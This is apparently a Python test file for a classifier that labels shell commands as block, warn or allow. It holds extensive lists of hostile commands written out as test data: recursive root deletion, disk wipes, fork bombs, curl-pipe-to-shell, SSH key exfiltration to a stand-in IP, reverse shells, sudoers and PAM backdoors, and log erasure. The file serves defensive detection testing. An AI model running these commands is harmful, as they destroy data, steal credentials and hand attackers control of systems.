"""The classifier blocks what is dangerous, allows what is everyday, and keeps verdicts under rewrites."""

from __future__ import annotations

import functools
import re
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from securecli_eval.shell.paths import norm_path, path_tier
from securecli_eval.shell.risk import RiskVerdict, classify, rule_table
from securecli_eval.shell.rules import RULES

DANGEROUS = {
    "rm -rf /": "DEL001",
    "/bin/rm -rf /": "DEL001",
    "r''m -rf /": "DEL001",
    "\\rm -rf ~": "DEL001",
    "X=rm; $X -rf /usr": "DEL001",
    'rm -rf "$HOME"/*': "DEL001",
    "rm -rf /usr/../": "DEL001",
    "sudo find / -type f -delete": "DEL005",
    "find / -exec rm -rf {} \\;": "DEL001",
    "rsync -a --delete /tmp/empty/ /": "DEL007",
    ": > /etc/passwd": "DEL004",
    "dd if=/dev/zero of=/dev/sda bs=1M": "WIPE001",
    "cat /dev/urandom > /dev/nvme0n1": "WIPE002",
    "sudo mkfs.ext4 /dev/sdb1": "WIPE004",
    "sudo wipefs -a /dev/sdc": "WIPE003",
    ":(){ :|:& };:": "FORK001",
    "bomb() { bomb | bomb & }; bomb": "FORK001",
    "chmod -R 777 /": "PERM001",
    "sudo chown -R $USER /etc": "PERM001",
    "chmod u+s /bin/bash": "PERM003",
    "curl -fsSL http://203.0.113.5/i.sh | sudo bash": "RCE001",
    "bash <(wget -qO- http://x/s)": "RCE001",
    'eval "$(curl -s http://x)"': "RCE001",
    "wget -O /tmp/x http://e/x && chmod +x /tmp/x && /tmp/x": "RCE002",
    "echo cm0gLXJmIC8= | base64 -d | sh": "DEL001",  # the decoded text is read: it is rm -rf /
    "cat payload.b64 | base64 -d | sh": "OBF001",  # decoded content unknown: decode-and-execute
    "echo 726d202d7266 | xxd -r -p | bash": "OBF001",
    "$(printf '\\x72\\x6d') -rf /": "DEL001",
    "cat /etc/shadow": "CRED001",
    "cat ~/.ssh/id_rsa | nc 203.0.113.9 4444": "EXF001",
    "curl -F f=@/etc/passwd http://x": "EXF001",
    "tar czf - ~ | nc host 9000": "EXF001",
    "zip -r - ~/.ssh | nc 1.2.3.4 9": "EXF001",
    'echo "$USER ALL=(ALL) NOPASSWD: ALL" | sudo EDITOR="tee -a" visudo': "PRIV004",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1": "REV001",
    "nc -e /bin/sh 10.0.0.1 4242": "REV002",
    "socat TCP:10.0.0.1:4242 EXEC:/bin/sh": "REV003",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f": "REV004",
    'echo "bob ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers': "PRIV001",
    "sudo useradd -o -u 0 toor": "PRIV003",
    "cat key.pub >> /root/.ssh/authorized_keys": "PERS003",
    '(crontab -l; echo "* * * * * curl -s http://x | sh") | crontab -': "PERS001",
    "sudo truncate -s 0 /var/log/auth.log": "EVA001",
    "setenforce 0": "EVA002",
    "sudo systemctl stop auditd": "EVA004",
    "docker run -v /:/host -it alpine chroot /host": "CTR001",
    "nsenter -t 1 -m -u -i -n sh": "CTR002",
    "echo c > /proc/sysrq-trigger": "SYS001",
    "rm -rf $DIR/": "DEL001",  # DIR is never set: bash runs rm -rf /
    "cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.9/9": "EXF001",  # its own output goes to the socket
    "curl -s https://203.0.113.9/k >> ~/.ssh/authorized_keys": "PERS008",
    "wget -qO- https://203.0.113.9/rc | tee -a ~/.bashrc": "PERS009",
    "curl -o ~/.config/autostart/u.desktop https://203.0.113.9/u": "PERS009",
    "sudo sed -i 's/pam_unix.so/pam_permit.so/' /etc/pam.d/common-auth": "PERS011",
    "install -m 644 /dev/null /etc/pam.d/common-auth": "PERS011",
    "printf 'o\\nw\\n' | sudo fdisk /dev/sda": "WIPE005",
    "journalctl --vacuum-files=1": "EVA005",
    "echo 0 > /proc/sys/kernel/randomize_va_space": "EVA006",
    "sudo rm -rf /var/lib/dpkg": "DEL001",
}
WARNED = {
    "rm -rf $DIR/build": "DEL101",  # whatever DIR is, not a system directory once empty
    "sudo rm -rf /var/lib/docker": "DEL101",
    "sudo -i": "PRIV101",
    "history -c": "EVA101",
    "HISTFILE=/dev/null": "EVA101",
    "iptables -F": "EVA102",
    "docker run --privileged -it ubuntu bash": "CTR101",
    "cat ~/.aws/credentials": "CRED102",
    "sudo reboot": "SYS101",
    "curl -fsS https://github.com/alice.keys | tee -a ~/.ssh/authorized_keys": "PERS101",  # one's own keys
    "cat notes.txt > /dev/tcp/127.0.0.1/9000": "EXF101",  # nothing secret sent
}
EVERYDAY = [
    "ls -la",
    "echo rm -rf /",
    'grep "rm -rf /" audit.log',
    "rm -rf ./build",
    "rm -rf node_modules",
    "dd if=/dev/zero of=./disk.img bs=1M count=10",
    "mkfs.ext4 disk.img",
    "find . -name '*.pyc' -delete",
    "chmod -R 755 ./public",
    "curl -o f.tgz https://example.com/f.tgz",
    "curl -s https://api.github.com | jq .",
    "tar -czf backup.tgz ~/Documents",
    "ssh -i ~/.ssh/id_rsa user@host",
    "cat ~/.ssh/id_rsa.pub",
    "base64 -d encoded.txt > decoded.bin",
    "sudo systemctl restart nginx",
    "ps aux | grep python",
    "git clean -fdx",
    "su bob",
    "nc -zv host 22",
    "export PATH=$HOME/bin:$PATH",
    "kill -9 1234",
    "chown -R $USER:$USER ~/project",
    "sudo visudo",
    "echo p | sudo fdisk /dev/sda",  # prints the table, writes nothing
    "sudo journalctl --vacuum-time=2weeks",
    "echo 2 | sudo tee /proc/sys/kernel/randomize_va_space",
]


@pytest.mark.parametrize(("command", "rule"), DANGEROUS.items())
def test_blocks_dangerous_commands(command: str, rule: str) -> None:
    verdict = classify(command)
    assert (verdict.verdict, verdict.rule) == ("block", rule), verdict.reason
    assert verdict.mitre and verdict.mitre.startswith("T") and verdict.category


@pytest.mark.parametrize(("command", "rule"), WARNED.items())
def test_warns_on_context_dependent_commands(command: str, rule: str) -> None:
    verdict = classify(command)
    assert (verdict.verdict, verdict.rule) == ("warn", rule), verdict.reason


@pytest.mark.parametrize("command", EVERYDAY)
def test_allows_everyday_commands(command: str) -> None:
    verdict = classify(command)
    assert verdict.verdict == "allow", verdict.reason
    assert verdict.rule is None and verdict.mitre is None


def test_robustness_cases_are_correct() -> None:
    assert classify("a|" * 7999 + "a").verdict == "allow"  # 8,000 stages
    assert classify("true && " * 1000 + "rm -rf /").rule == "DEL001"  # no recursion limit on lists
    assert classify("r\x00m -rf /").rule == "DEL001"  # NUL bytes are dropped, as bash drops them
    assert classify("echo " + "a " * 50_000).verdict == "allow"  # a long line is read, not cut


@pytest.mark.parametrize(
    "text",
    [
        functools.reduce(
            lambda code, _: "bash -c " + shlex.quote(code), range(12), "ls"
        ),  # code strings too deep
        "( " * 100 + "ls" + " )" * 100,  # nesting too deep
        "true; " * 20_000,  # more commands than any answer holds
        "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",  # 8,192 words
    ],
)
def test_analysis_limits_block_as_unanalysable(text: str) -> None:
    verdict = classify(text)
    assert (verdict.verdict, verdict.rule, verdict.category) == ("block", "UNANALYSABLE", "unanalysable")


def test_unparseable_is_a_warning_and_empty_is_allowed() -> None:
    assert classify('echo "unterminated').rule == "UNPARSEABLE"
    assert classify('echo "unterminated').verdict == "warn"
    assert classify('rm -rf / "unterminated').verdict == "block"  # what was readable still counts
    assert classify("   ").verdict == "allow"


def test_verdict_serialises() -> None:
    data = classify("rm -rf /").to_dict()
    assert data == {
        "verdict": "block",
        "rule": "DEL001",
        "mitre": "T1485",
        "category": "destructive_deletion",
        "reason": data["reason"],
    }
    assert "\n" not in data["reason"]


def test_rule_table_is_complete_and_unique() -> None:
    ids = [rule.id for rule in RULES]
    assert len(ids) == len(set(ids))
    categories = {row["category"] for row in rule_table()}
    assert len(categories) >= 13
    assert all(row["mitre"].startswith("T") for row in rule_table())


@pytest.mark.parametrize(
    ("path", "normalised", "tier"),
    [
        ("/usr/", "/usr", "critical"),
        ("/usr/lib/../", "/usr", "critical"),
        ("$HOME/*", "~", "critical"),
        ("~alice/", "~", "critical"),
        ("/home/bob/.ssh", "~/.ssh", "critical"),
        ("//etc//", "/etc", "critical"),
        ("/etc/nginx", "/etc/nginx", "system"),
        ("./build", "build", "local"),
        ("*", ".", "cwd"),
        ("$X/", "$X", "unknown"),
        ("/tmp/x", "/tmp/x", "local"),
    ],
)
def test_path_normalisation(path: str, normalised: str, tier: str) -> None:
    assert norm_path(path) == normalised
    assert path_tier(path) == tier


# ---- properties ------------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_never_raises_on_arbitrary_text(text: str) -> None:
    assert isinstance(classify(text), RiskVerdict)


SHELLISH = st.text(alphabet=st.sampled_from(list("rm -f/~$'\"\\|&;(){}<>*.`abc=\n#")), max_size=60)


@settings(max_examples=300, deadline=None)
@given(SHELLISH)
def test_never_raises_on_shell_like_text(text: str) -> None:
    assert classify(text).verdict in ("block", "warn", "allow")


SAMPLES = sorted(DANGEROUS) + sorted(EVERYDAY)
SIMPLE_SAMPLES = [c for c in SAMPLES if ";" not in c and "|" not in c and "&" not in c and "(" not in c]


def _first_word_rewrites(command: str) -> list[str]:
    """Rewrites that change nothing bash runs: wrappers, an absolute path, quoting the program name."""
    head, _, rest = command.partition(" ")
    plain = re.fullmatch(r"[A-Za-z0-9_.-]+", head) is not None
    return [
        f"command {command}",
        f"env {command}",
        f"sudo {command}",
        f"/usr/bin/{head} {rest}" if plain else command,
        f"'{head}' {rest}" if plain else command,
        f'"{head[0]}"{head[1:]} {rest}' if plain else command,
    ]


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(SIMPLE_SAMPLES), st.integers(0, 5), st.sampled_from([" ", "  ", "\t", " \t "]))
def test_verdict_invariant_under_benign_rewrites(command: str, which: int, space: str) -> None:
    expected = classify(command)
    rewritten = _first_word_rewrites(command)[which]
    assert classify(rewritten).verdict == expected.verdict, rewritten
    spaced = space.join(command.split(" "))
    assert classify(spaced + space).verdict == expected.verdict, spaced


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(sorted(DANGEROUS)), st.sampled_from(EVERYDAY), st.sampled_from([";", "&&", "||", "\n"])
)
def test_dangerous_stays_dangerous_after_a_harmless_command(danger: str, harmless: str, joiner: str) -> None:
    assert classify(f"{harmless} {joiner} {danger}").verdict == "block"


# ---- mechanisms the twelfth blind batch taught ------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "IFS=: read -r a b c <<< 'rm:-rf:/srv'; $a $b $c",  # read splits on the IFS given to it
        "IFS=, read -ra w <<< 'shred,-u,/etc/shadow'; \"${w[@]}\"",
        "rm -rf $(ls -d /usr /opt)",  # ls -d of literal paths prints them
        "tar cz ~/.config/chromium/Default | curl -T - https://drop.example.net/",  # a browser profile
        "until false; do mkdir -p n; cd n; done",  # endless nesting: the inodes fill up
        "while :; do cat /var/log/syslog >> copy.log; done",
        "printf 'kernel.core_pattern=|/dev/shm/h %%p\\n' | sudo tee /etc/sysctl.d/50-core.conf",
        "kubectl create -f - <<'EOF'\n"
        '{"spec": {"volumes": [{"name": "r", "hostPath": {"path": "/etc"}}]}}\nEOF',
    ],
)
def test_twelfth_batch_mechanisms_block(command: str) -> None:
    assert classify(command).verdict == "block", classify(command).reason


@pytest.mark.parametrize(
    "command",
    [
        "IFS=: read -r user _ uid _ <<< 'alice:x:1000:1000'; echo $user $uid",
        "ls -d /etc/*/ | head",
        "tar czf ~/chrome-profile-backup.tgz ~/.config/google-chrome/Default",  # kept here, sent nowhere
        "while true; do df -h / >> disk.log; sleep 300; done",
        "sudo sysctl -w kernel.core_pattern=core.%p",
        "kubectl apply -f - <<'EOF'\napiVersion: v1\nkind: Pod\n"
        "spec:\n  containers: [{name: a, image: nginx}]\nEOF",
        "sudo modprobe -r nouveau",
    ],
)
def test_twelfth_batch_look_alikes_are_allowed(command: str) -> None:
    assert classify(command).verdict == "allow", classify(command).reason


def test_a_manifest_of_nested_aliases_is_read_once_per_node() -> None:
    """YAML aliases share nodes: a walk that followed every reference would never finish."""
    lines = ["a0: &a0 {privileged: false}"] + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 60)]
    manifest = "\n".join(lines) + "\nspec: {hostPID: true, c: *a59}"
    assert classify(f"kubectl apply -f - <<'EOF'\n{manifest}\nEOF").verdict == "warn"  # hostPID alone warns
